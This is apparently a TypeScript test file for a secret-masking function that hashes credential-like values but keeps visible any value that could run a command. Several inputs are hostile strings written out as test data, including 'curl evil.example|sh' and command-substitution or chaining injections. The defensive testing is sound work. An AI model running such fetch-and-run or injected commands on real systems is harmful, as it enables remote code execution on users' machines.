import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'mocha';
import { shownValue } from '../../../../src/core/trust/shownValue.ts';
import { TemplateBinder } from '../../../../src/core/trust/template.ts';
import { folder, serverOf } from '../config/snapshots.ts';
import { contextOf } from './launchFixture.ts';

const hash = (text: string): string => `SHA-256 ${createHash('sha256').update(text).digest('hex')}`;

describe('shownValue', () => {
  it('hides what may be a secret behind a name that is sensitive', () => {
    for (const [name, value, shown] of [
      ['API_KEY', 'k', hash('k')],
      ['MY_PASSWORD', 'Tr0ub4dor!3', hash('Tr0ub4dor!3')],
      ['AUTH', 'Bearer abc', `Bearer ${hash('abc')}`],
      ['X-Auth-Token', 'a/b+c==', hash('a/b+c==')],
      ['PASSPHRASE', 'correct "horse" battery?', hash('correct "horse" battery?')],
      ['MODE', 'fast', 'fast'],
      ['EMPTY_KEY', '', ''],
    ] as const) {
      assert.equal(shownValue(name, value), shown, name);
    }
  });

  it('hides what has the shape of a key, and of a URL the password alone', () => {
    const sha = 'a3f1'.repeat(16);
    const aws = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
    const pem = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQ'.repeat(10)}\nMIIE=\n-----END PRIVATE KEY-----\n`;
    for (const key of [sha, aws, pem, `ghp_${'a'.repeat(36)}`]) assert.equal(shownValue('PLAIN', key), hash(key), key);
    for (const [value, shown] of [
      ['postgres://app:hunter2x@db.example/x', `postgres://app:${hash('hunter2x')}@db.example/x`],
      ['http://corporate:proxyuser@evil.example:3128', `http://corporate:${hash('proxyuser')}@evil.example:3128`],
      ['--header=Authorization: Bearer abcdefgh12', `--header=Authorization: Bearer ${hash('abcdefgh12')}`],
      ['https://a.example/?code=abcd&x=1', `https://a.example/?code=${hash('abcd')}&x=1`],
    ] as const) {
      assert.equal(shownValue('PLAIN', value), shown);
      assert.equal(shownValue('SOME_TOKEN', value).includes('.example') || value.startsWith('--'), true);
    }
    // Ordinary digests and words are no keys.
    for (const value of ['a3f1'.repeat(10), 'A'.repeat(40), 'https://a.example/x']) {
      assert.equal(shownValue('PLAIN', value), value);
    }
  });

  it('shows what could run, be reached or be read, whatever stands around it [TRUST-3c]', () => {
    const token = `ghp_${'a'.repeat(36)}`;
    for (const [name, value] of [
      ['EDITOR', `touch pwned; curl evil.example|sh # ${token}`],
      ['KEY_TOOL', 'touch x && pwned'],
      ['KEY_TOOL', 'x\npwned'],
      ['KEY_TOOL', './pwned'],
      ['KEY_TOOL', '/work/pwned'],
      ['KEY_TOOL', '~/pwned'],
      ['KEY_TOOL', 'C:\\pwned'],
      ['KEY_TOOL', 'x;pwned'],
      ['KEY_TOOL', '$(pwned)'],
      ['KEY_TOOL', '`pwned`'],
      ['KEY_TOOL', '{pwned,x}'],
      ['TOKEN_URL', 'https://pwned/x'],
      ['PLAIN', 'cookie: ; pwned --x'],
      ['PLAIN', 'authorization: x; pwned'],
      ['PLAIN', 'token=/work/pwned'],
      ['PLAIN', 'secret="$(pwned)"'],
      ['PLAIN', '-----BEGIN PRIVATE KEY-----\n/work/pwned\n-----END PRIVATE KEY-----'],
      ['PLAIN', '-----BEGIN PRIVATE KEY-----\nsh pwned\n-----END PRIVATE KEY-----'],
    ] as const) {
      assert.match(shownValue(name, value), /pwned/, value);
    }
    assert.equal(shownValue('EDITOR', `pwned # ${token}`), `pwned # ${hash(token)}`);
  });

  it('shows references of the person as written, and hides the tokens between them', () => {
    const binder = new TemplateBinder(serverOf(folder('one'), { command: 'x' }), contextOf({ env: { H: 'h' } }));
    const shown = (name: string, text: string): string => shownValue(name, binder.bind('env.X', text));
    assert.equal(shown('TOKEN', '${secret:s}'), '${secret:s}');
    assert.equal(shown('TOKEN', 'Bearer ${secret:s}'), 'Bearer ${secret:s}');
    assert.equal(shown('TOKEN', 'abc${secret:s}'), `${hash('abc')}\${secret:s}`);
    assert.equal(shown('TOKEN', 'x; pwned ${secret:s}'), 'x; pwned ${secret:s}');
    assert.equal(shown('DB', 'postgres://a:hunter2x@${env:H}/x'), `postgres://a:${hash('hunter2x')}@\${env:H}/x`);
  });
});
